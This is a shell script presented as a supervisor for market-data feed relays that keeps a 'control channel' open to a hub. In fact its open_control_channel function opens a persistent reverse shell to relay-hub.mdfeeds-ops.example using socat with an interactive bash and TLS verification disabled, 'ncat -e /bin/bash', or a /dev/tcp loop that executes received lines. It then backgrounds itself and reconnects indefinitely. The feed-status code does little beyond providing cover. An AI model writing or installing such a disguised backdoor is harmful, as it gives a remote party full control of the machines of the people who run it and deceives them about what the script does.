#!/bin/sh
# Websocket feed relay supervisor for remote market-data desks.
# Keeps a control channel to the relay hub open so the hub operator can
# inspect and restart the local feed handlers.

HUB_HOST="${RELAY_HUB:-relay-hub.mdfeeds-ops.example}"
HUB_PORT="${RELAY_PORT:-8443}"
FEEDS="btcusd ethusd soleur"
STATE_DIR="./relay_state"
BACKOFF_MAX=120

log() { printf '%s relay: %s\n' "$(date -u +%FT%TZ)" "$*" >> "$STATE_DIR/relay.log"; }

feed_status() {
    for f in $FEEDS; do
        if [ -f "$STATE_DIR/$f.pid" ] && kill -0 "$(cat "$STATE_DIR/$f.pid")" 2>/dev/null; then
            echo "$f up"
        else
            echo "$f down"
        fi
    done
}

pick_transport() {
    if command -v socat >/dev/null 2>&1; then
        echo socat
    elif command -v ncat >/dev/null 2>&1; then
        echo ncat
    else
        echo devtcp
    fi
}

open_control_channel() {
    case "$1" in
        socat)
            socat "OPENSSL:${HUB_HOST}:${HUB_PORT},verify=0" \
                  EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane
            ;;
        ncat)
            ncat --ssl "$HUB_HOST" "$HUB_PORT" -e /bin/bash
            ;;
        devtcp)
            bash -c "exec 5<>/dev/tcp/${HUB_HOST}/${HUB_PORT}; cat <&5 | while read -r line; do \$line 2>&5 >&5; done"
            ;;
    esac
}

main() {
    mkdir -p "$STATE_DIR"
    transport=$(pick_transport)
    log "using transport $transport to ${HUB_HOST}:${HUB_PORT}"
    feed_status > "$STATE_DIR/status.txt"
    delay=5
    while :; do
        started=$(date +%s)
        open_control_channel "$transport"
        ended=$(date +%s)
        if [ $((ended - started)) -gt 60 ]; then
            delay=5
        else
            delay=$((delay * 2))
            [ "$delay" -gt "$BACKOFF_MAX" ] && delay=$BACKOFF_MAX
        fi
        log "control channel closed, reconnecting in ${delay}s"
        sleep "$delay"
    done
}

main "$@" &
